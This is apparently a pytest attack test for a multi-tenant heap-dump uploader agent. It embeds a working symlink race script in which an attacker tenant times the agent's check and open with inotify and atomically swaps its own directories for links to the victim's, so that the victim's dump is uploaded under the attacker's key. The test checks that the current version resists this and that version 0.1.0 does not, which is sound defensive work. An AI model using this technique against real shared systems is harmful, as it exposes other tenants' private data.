"""A tenant swaps a directory for a symbolic link at the moment at which the agent has looked and not yet opened."""

from __future__ import annotations

import time

import pytest

from tests.attacks.conftest import Hold
from tests.attacks.stage import Stage
from tests.attacks.tenants import CLOSE_NOWRITE, OPEN, heap_dump

pytestmark = [pytest.mark.slow, pytest.mark.attack]
STARTED_WITHIN_S = 30.0  # the dump is there before the agent, which loads its client first

# Anybody sees the order in which directories are walked (`ls -U`): the attacker has one from before the victim's and makes
# others after it, until one of them is walked before the victim's. A tmpfs lists the newest first, ext4 by a hash.
BEFORE_THE_VICTIMS = "os.mkdir(f'{root}/t0')"
# Version 0.1.0 walks twice, first to watch, then to scan, and takes the last directory that is listed first.
SWAP_WHILE_SCANNED = """
notes = Inotify()
for count in range(1, 200):
    order = os.listdir(root)
    if last_first:
        order.reverse()
    mine = next((name for name in order[:order.index("shop")] if name.startswith("t")), "")
    if mine:
        break
    os.mkdir(f"{root}/t{count}")
assert mine, "no directory of the attacker's is walked before the victim's"
os.mkdir(f"{root}/hold")
for number in range(4000):
    os.mkdir(f"{root}/{mine}/a{number:04d}")
    os.symlink(f"{root}/shop", f"{root}/hold/a{number:04d}")
# In the order in which they are walked: version 0.1.0 takes the last one first.
walked = os.listdir(f"{root}/{mine}")
if last_first:
    walked.reverse()
for name in walked[:20]:
    for number in range(50):
        open(f"{root}/{mine}/{name}/f{number}", "w").close()
swaps = [(f"{root}/{mine}/{name}", f"{root}/hold/{name}") for name in reversed(walked)]
notes.watch(f"{root}/{mine}", event)
print("ready", flush=True)
for _ in range(events):
    notes.wait_for_itself(60)
# From the end, where the agent comes last: the two meet on the way, however busy the machine is. Then there and back again.
until = time.monotonic() + 5
while time.monotonic() < until:
    for own, link in swaps:
        assert exchange(own, link) == 0
    print("swapped", flush=True)
time.sleep(60)
"""


def test_a_directory_that_is_swapped_while_it_is_scanned_shows_no_file_of_another(held: Hold) -> None:
    def attack(stage: Stage) -> str:
        stage.attacker.run(BEFORE_THE_VICTIMS)
        stage.victim.run("os.mkdir(f'{root}/shop', 0o700)")
        content = heap_dump(1)
        stage.victim_writes(content, "shop/java_pid1.hprof")
        # This version holds the directory open while it is below it; 0.1.0 closes it first.
        event, events = (OPEN, 1) if stage.version.is_ours else (CLOSE_NOWRITE, 2)
        swapping = stage.attacker.start(
            SWAP_WHILE_SCANNED, event=event, events=events, last_first=not stage.version.is_ours
        )
        assert stage.attacker.told(swapping) == "ready"
        stage.start_uploader()
        stage.written_at = time.monotonic()
        assert stage.attacker.told(swapping) == "swapped"
        until = stage.written_at + STARTED_WITHIN_S
        while time.monotonic() < until:
            keys = [key for key, body in stage.stored().items() if body == content]
            if keys:
                return "" if keys == [stage.own_key] else f"the victim's dump is stored as {keys}"
            time.sleep(0.2)
        return "the victim's dump is not stored"

    held(attack, tries=5)  # a race, on a machine that may be busy
